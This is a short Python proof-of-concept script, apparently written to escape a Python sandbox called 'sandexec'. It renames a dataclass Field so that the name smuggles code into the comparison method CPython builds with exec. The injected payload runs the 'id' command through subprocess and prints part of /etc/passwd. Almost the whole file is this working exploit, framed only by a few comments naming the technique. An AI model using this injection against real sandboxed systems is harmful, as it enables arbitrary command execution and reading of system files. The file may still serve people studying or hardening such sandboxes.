# source: CPython 3.11 Lib/dataclasses.py (_process_class reads base __dataclass_fields__, _cmp_fn pastes f.name into exec text); sandexec README, "The static check", itself names the renamed-Field risk
# family: dataclass Field object reached as an attribute of an undecorated class (K.f = field()), adopted by a dataclass, renamed after, pasted into a subclass eq code
# goal: code execution (id, /etc/passwd) via dataclasses exec
from dataclasses import dataclass, field
class K:
    f: int = field(default=0)
@dataclass
class D:
    f: int = K.f
u = "_" * 2
K.f.name = "f,print(" + u + "import" + u + "('subprocess').run(['id'],capture_output=True,text=True).stdout),print(open('/etc/passwd').read()[:100])"
@dataclass(init=False, repr=False, eq=True)
class E(D):
    g: int = 1
a = E()
print(a == a)
